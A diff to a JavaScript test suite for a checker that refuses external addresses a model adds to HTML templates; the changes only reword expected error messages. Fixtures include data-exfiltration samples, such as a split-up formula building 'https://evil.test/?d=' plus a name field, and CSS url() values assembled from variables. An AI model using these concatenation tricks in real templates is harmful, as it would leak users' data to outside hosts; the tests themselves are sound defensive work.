@@ -62,10 +62,10 @@ describe('outside addresses that a model brings in', () => {
   })
 
   it('are refused where fields are put together to one that is loaded', () => {
-    expect(refused(withHtml('<img src="{{site}}{{name}}" alt="">'))).to.include('put together')
-    expect(refused(withHtml('<img src="{{site}}?d={{name}}" alt="">'))).to.include('put together')
+    expect(refused(withHtml('<img src="{{site}}{{name}}" alt="">'))).to.include('built from')
+    expect(refused(withHtml('<img src="{{site}}?d={{name}}" alt="">'))).to.include('built from')
     const computed = '{ "computed": { "logo": { "formula": "concat(site, name)" } } }'
-    expect(refused(withFile('template.json', computed))).to.include('put together')
+    expect(refused(withFile('template.json', computed))).to.include('built from')
     const settings =
       '{ "computed": { "pay": { "formula": "\\"ht\\" + \\"tps://evil.test/?d=\\" + name" }, "items.link": "pay", "g": "group(items, \\"link\\")" } }'
     const pages = [
@@ -80,11 +80,11 @@ describe('outside addresses that a model brings in', () => {
     ]
     for (const html of pages)
       expect(refused(withFiles({ 'template.json': settings, 'template.html': html })), html).to.include(
-        'put together',
+        'built from',
       )
     const text = { 'texts/en.json': '{ "pay": "{{name}}tps:/{{name}}/x" }' }
     expect(refused(withFiles({ ...text, 'template.html': '<img src="{{text.pay}}" alt="">' }))).to.include(
-      'put together',
+      'built from',
     )
     // A default may be any part of a scheme.
     const open = [
@@ -95,7 +95,7 @@ describe('outside addresses that a model brings in', () => {
       '<p style="background: url({{x}}{{y}})">x</p>',
       '<style>p { background: url(/{{x}}/evil.test) }</style>',
     ]
-    for (const html of open) expect(refused(withHtml(html)), html).to.include('put together')
+    for (const html of open) expect(refused(withHtml(html)), html).to.include('built from')
     const plain = '{ "computed": { "share": "paid / total", "hue": "if(late, \\"red\\", \\"green\\")" } }'
     const bars =
       '<p style="width: {{share}}%; color: {{hue}}; background: url(assets/{{name}}.png)">{{share}}</p>{{#photos}}<img src="{{.}}" alt="">{{/photos}}'
@@ -128,8 +128,8 @@ describe('outside addresses that a model brings in', () => {
   it('are told, each in a sentence', () => {
     const after = withHtml('<img src="https://acme.org/x.png" alt=""><a href="https://acme.org/">x</a>')
     expect(addressNotes(begun, after)).to.deep.equal([
-      'The document names an outside address that it did not name before: acme.org/x.png',
-      'The document has a link that it did not have before: acme.org',
+      'The document contains a new external address: acme.org/x.png',
+      'The document contains a new link: acme.org',
     ])
     expect(addressNotes(begun, begun)).to.deep.equal([])
   })
